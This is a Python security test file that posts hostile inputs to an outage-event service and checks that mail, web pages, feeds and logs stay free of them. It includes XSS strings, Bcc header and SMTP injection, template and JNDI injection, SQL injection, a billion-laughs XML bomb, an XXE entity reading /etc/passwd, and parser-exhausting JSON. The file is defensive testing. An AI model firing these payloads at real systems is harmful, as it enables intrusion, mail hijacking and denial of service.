#!/usr/bin/env python3
# SPDX-License-Identifier: EUPL-1.2
"""What stands in an event cannot become a mail's header or recipient, an element or a
script of a page, or a cost: it is refused with a reason, or shown as the text it is."""
import email
import email.policy
import html.parser
import json
import random
import time
import unittest
import xml.etree.ElementTree

from fault_world import LONG, SANITIZED, FaultWorld, sized, told, wait_for

INPUTS = sized(5000, 400, 250)
RECIPIENTS = ("redaktion@example.se",)
# A long list of incidents is a table, which the few harmless ones are not.
TABLE = {"table", "thead", "tbody", "tr", "th", "td", "th scope", "th class", "td class"}
# The bound of one answer; the test itself and other programs share the processor.
ANSWERED_S = 5 if not SANITIZED else 20
PAYLOADS = (
    "<script>alert(1)</script>", "<xx-canary xx-attr='1'>", "\"><img src=x onerror=a>",
    "' xx-attr='1", "\" xx-attr=\"1", "</title><xx-canary>", "</style><xx-canary>",
    "<!--<xx-canary>-->", "]]><xx-canary>", "<svg/onload=xx>", "&lt;xx-canary&gt;",
    "javascript:alert(1)", "</textarea><xx-canary>", "<a href='javascript:x'>y</a>",
    "x\nBcc: evil@example.com", "x\r\nBcc: evil@example.com", "x\rBcc: evil@example.com",
    "x\n\n<xx-canary>body", "x\r\n.\r\nMAIL FROM:<evil@example.com>", "x\n.\nQUIT\n",
    "evil@example.com, other", "=?utf-8?q?=0ABcc:_evil=40example.com?=",
    "x\u2028Bcc: evil@example.com", "x\u0085Bcc: evil@example.com",
    "{{7*7}}{{organisation}}", "{organisation}{places}{place}", "${jndi:ldap://x}%s%n%x",
    "\u202eevil\u202c", "\u2066evil\u2069\u200b\ufeff", "\x1b[2J\x1b[31mred", "a\u0000b",
    "a\x07\x08b", "p\u0430ypal", "\U0001f9e8" * 20, "e" + "\u0301" * 60, "å" * 5000,
    "%0d%0aBcc:evil@example.com", "\\r\\nBcc: evil", "'; DROP TABLE event; --", "../../etc",
)
HIDDEN = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200b\ufeff\x1b\x07\x00"
FIELDS = ("incident", "event_id", "place", "code", "premise", "note", "note.sv",
          "note.key", "cause", "etr.reason", "work", "merge_into", "kind", "unknown")


def event(number, **more):
    return {"event_id": f"E{number}", "incident": f"I{number}", "kind": "power",
            "status": "confirmed", "customers_affected": 1432,
            "places": [{"name": "Täby kyrkby"}], **more}


def with_payload(number, field, text):
    """An event with the text in that field."""
    soon = "2030-01-01T12:00:00Z"
    row = event(number)
    row.update({
        "incident": {"incident": f"{number} {text}"}, "event_id": {"event_id": f"{number}{text}"},
        "place": {"places": [{"name": text}]},
        "code": {"places": [{"name": "Täby", "code": text}]},
        "premise": {"premises": [text]}, "note": {"note": text},
        "note.sv": {"note": {"sv": text, "en": text}}, "note.key": {"note": {text: "hej"}},
        "cause": {"cause": {"code": "other", "text": text}},
        "etr.reason": {"etr": {"at": soon, "reason": text}},
        "work": {"status": "planned",
                 "planned": {"from": soon, "to": "2030-01-01T14:00:00Z", "work": text}},
        "merge_into": {"merge_into": text}, "kind": {"kind": text}, "unknown": {text: text},
    }[field])
    return json.dumps(row).encode()


def laughs(system=None):
    """Entities that grow without bound, or that name a file."""
    lines = ['<?xml version="1.0"?>', "<!DOCTYPE lolz ["]
    lines += [f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol"}">' for n in range(10)]
    if system:
        lines.append(f'<!ENTITY xxe SYSTEM "{system}">')
    lines += ["]>", '<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2">'
              f"<identifier>{'&xxe;' if system else '&l9;'}</identifier></alert>"]
    return "\n".join(lines).encode()


def structures():
    """Bodies that are refused whatever a field holds: kind of content, bytes."""
    json_kind, xml_kind = "application/json", "application/cap+xml"
    good = json.dumps(event("structure")).encode()
    yield json_kind, b'{"note":"' + b"x" * (10 << 20) + b'"}'
    yield json_kind, b"[" * 100000 + b"]" * 100000
    yield json_kind, b'{"a":' * 100000 + b"1" + b"}" * 100000
    yield json_kind, b"[" * 10000000
    yield json_kind, good[:-1] + b',"kind":"water"}'
    yield json_kind, good[:-1] + b',"extra":{"a":1,"a":2}}'
    yield json_kind, good.replace(b"1432", b"1e400")
    yield json_kind, good.replace(b"1432", b"9" * 400)
    yield json_kind, good.replace(b"1432", b"-1")
    yield json_kind, good.replace(b"1432", b"0x10")
    yield json_kind, good.replace(b"1432", b"NaN")
    yield json_kind, good.replace(b"kyrkby", b"\xc0\xaf\xc1\x81")
    yield json_kind, good.replace(b"kyrkby", b"\xed\xa0\x80\xf4\x90\x80\x80")
    yield json_kind, good.replace(b"kyrkby", b"\\ud800")
    yield json_kind, good.replace(b"kyrkby", b"\\u0000")
    yield json_kind, good.replace(b"kyrkby", b"\0")
    yield json_kind, good.replace(b"kyrkby", b"\x1b[31m")
    yield json_kind, good[:-1]
    yield json_kind, good + b"\0" + good
    yield json_kind, good.replace(b'"I', b'"' + b"i" * 121)
    yield json_kind, b"\0" * 1000
    yield json_kind, b"\xff\xfe\x00\xd8" * 100
    yield xml_kind, laughs()
    yield xml_kind, laughs("file:///etc/passwd")
    yield xml_kind, b"<!DOCTYPE x>" + b"<a>" * 100000
    yield "application/x-ndjson", (good + b"\n") * 3 + b"{\n"
    yield "text/html", b"<script>"


class Elements(html.parser.HTMLParser):
    """Every element and attribute of a page."""

    def __init__(self, content):
        super().__init__()
        self.found, self.values = set(), []
        self.feed(content)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.found.add(tag)
        self.found.update(f"{tag} {name}" for name, _ in attrs)
        self.values += [value or "" for name, value in attrs if name in ("href", "src")]

    def handle_comment(self, data):
        self.found.add("a comment")


class HostileContent(FaultWorld):
    def setUp(self):
        super().setUp()
        self.bus = self.hook("bus")
        self.mail = self.relay("mail", to=RECIPIENTS, options="concurrency = 8")
        self.page()
        self.route_to_all(["bus", "mail", "page"])
        self.slowest, self.counts = 0, {}

    def give(self, body, kind="application/json"):
        """Posts it; only an acceptance or a refusal in words is right."""
        begun = time.monotonic()
        try:
            status, _, content = self.call("POST", "/v1/events", body, kind=kind)
        except (BrokenPipeError, ConnectionResetError):
            status, content = 413, {"title": "", "detail": "gone while it was sent"}
            self.assertGreater(len(body), 8 << 20)
        took = time.monotonic() - begun
        self.slowest = max(self.slowest, took)
        self.assertLess(took, ANSWERED_S, body[:200])
        self.assertIn(status, (200, 400, 409, 413, 415, 422), (content, body[:200]))
        if status != 200:
            self.assertTrue(content["detail"], content)
            shown = json.dumps(content, ensure_ascii=False)
            self.assertFalse([one for one in HIDDEN if one in shown], shown)
        self.counts[status] = self.counts.get(status, 0) + 1
        return status

    def mutations(self, n):
        """Good events with some bytes changed."""
        chance = random.Random(13)
        for number in range(n):
            body = bytearray(with_payload(f"m{number}", chance.choice(FIELDS),
                                          chance.choice(PAYLOADS)))
            for _ in range(chance.choice((1, 1, 2, 8))):
                at = chance.randrange(len(body))
                body[at:at + chance.choice((0, 1, 1, 4))] = chance.choice(
                    (b"", b"\0", b"\"", b"\\", b"{", b"[", b"\xff", b"\r\n", b"9" * 30,
                     chance.randbytes(3)))
            yield bytes(body)

    def by_spool(self):
        """The same structures as files; each is refused with a reason."""
        bodies = [body for _, body in structures()]
        for number, body in enumerate(bodies):
            self.drop(f"structure-{number}", body)
        rejected = self.spool / "rejected"
        wait_for("the files to be refused", lambda: all(
            (rejected / f"structure-{number}.reason.txt").exists()
            for number in range(len(bodies))))
        return len(bodies)

    def baseline(self):
        """What a harmless event of every shape looks like: headers and elements."""
        for number, field in enumerate(FIELDS):
            self.give(with_payload(f"harmless{number}", field, "harmless"))
        self.give(json.dumps(event("two", note="one\ntwo\n\nthree")).encode())
        self.wait_complete()
        self.wait_for_page()
        headers = [set(self.parse(call).keys()) for call in self.mail.accepted()]
        self.headers = set().union(*headers)
        self.elements = self.all_elements()
        self.mail_elements = self.all_mail_elements()

    def wait_for_page(self):
        wait_for("every incident's page", lambda: all(
            row["state"] == "delivered" for row in self.deliveries(channel="page")))

    @staticmethod
    def parse(call):
        return email.message_from_bytes(call["data"], policy=email.policy.default)

    def pages(self):
        return [path for path in (self.folder / "page").rglob("*.html")]

    def all_elements(self):
        found = set()
        for path in self.pages():
            content = path.read_text()
            self.assertFalse([one for one in HIDDEN if one in content], path)
            elements = Elements(content)
            found |= elements.found
            self.assertFalse([value for value in elements.values
                              if value.strip().lower().startswith(("javascript", "data"))])
        return found

    def all_mail_elements(self):
        found = set()
        for call in self.mail.accepted():
            body = self.parse(call).get_body(("html",)).get_content()
            found |= Elements(body).found
        return found

    def assert_mails(self):
        for call in self.mail.accepted():
            mail = self.parse(call)
            self.assertEqual(set(mail.keys()) - self.headers, set(), call["data"][:2000])
            names = [name.lower() for name in mail.keys()]
            self.assertEqual(len(names), len(set(names)), names)
            self.assertEqual(call["from"], "drift@example.se")
            self.assertEqual(len(call["to"]), 1)
            self.assertIn(call["to"][0], RECIPIENTS)
            self.assertEqual(mail["To"], call["to"][0])
            self.assertEqual([part.get_content_type() for part in mail.walk()],
                             ["multipart/alternative", "text/plain", "text/html"])
            self.assertEqual([part.defects for part in mail.walk()], [[], [], []])
            for kind in ("plain", "html"):
                text = mail.get_body((kind,)).get_content()
                self.assertFalse([one for one in HIDDEN if one in text], text)
            self.assertFalse([one for one in HIDDEN if one in mail["Subject"]])

    def assert_feeds(self):
        for path in (self.folder / "page").rglob("*.atom"):
            root = xml.etree.ElementTree.fromstring(path.read_bytes())
            self.assertFalse([one.tag for one in root.iter() if "canary" in one.tag])
        for pattern in ("*.json", "*.geojson"):
            for path in (self.folder / "page").rglob(pattern):
                json.loads(path.read_bytes())

    def assert_calls(self):
        for call in self.bus.accepted():
            for texts in json.loads(call["body"])["data"]["texts"].values():
                for text in texts.values():
                    self.assertFalse([one for one in HIDDEN if one in text], text)
            self.assertEqual(call["request"], "POST /bus HTTP/1.1")

    def assert_templates_are_text(self):
        """What looks like a slot of a template is said as it was written."""
        told_texts = " ".join(text for call in self.bus.accepted() for texts in json.loads(
            call["body"])["data"]["texts"].values() for text in texts.values())
        self.assertIn("{{7*7}}{{organisation}}", told_texts)
        self.assertIn("{organisation}{places}{place}", told_texts)

    def test_hostile_content(self):
        self.begin()
        self.baseline()
        before, every = self.core_kib(), 1 if LONG else 4 if SANITIZED else 2
        for row, text in enumerate(PAYLOADS):
            for column, field in enumerate(FIELDS):
                if (row + column) % every == 0 or field == "place":
                    self.give(with_payload(f"{row}-{column}", field, text))
        for kind, body in structures():
            self.assertNotEqual(self.give(body, kind), 200, body[:200])
        for body in self.mutations(max(0, INPUTS - sum(self.counts.values()))):
            self.give(body)
        n_files = self.by_spool()
        self.wait_complete(300)
        self.wait_for_page()
        self.assert_mails()
        self.assertEqual(self.all_elements() - self.elements - TABLE, set())
        self.assertEqual(self.all_mail_elements() - self.mail_elements, set())
        self.assert_feeds()
        self.assert_calls()
        self.assert_templates_are_text()
        log = self.log_text()
        self.assertFalse([one for one in HIDDEN if one in log])
        self.assertNotIn("root:x:0:0", log)
        after = self.core_kib()
        if not SANITIZED:
            self.assertLess(after, 160 * 1024)
        told(f"content: {sum(self.counts.values())} posts {self.counts} and {n_files} files, "
             f"slowest {1000 * self.slowest:.0f} ms, {len(self.mail.accepted())} mails, "
             f"{len(self.pages())} pages, nothing of them foreign; the core {before} then "
             f"{after} KiB at most")


if __name__ == "__main__":
    unittest.main()
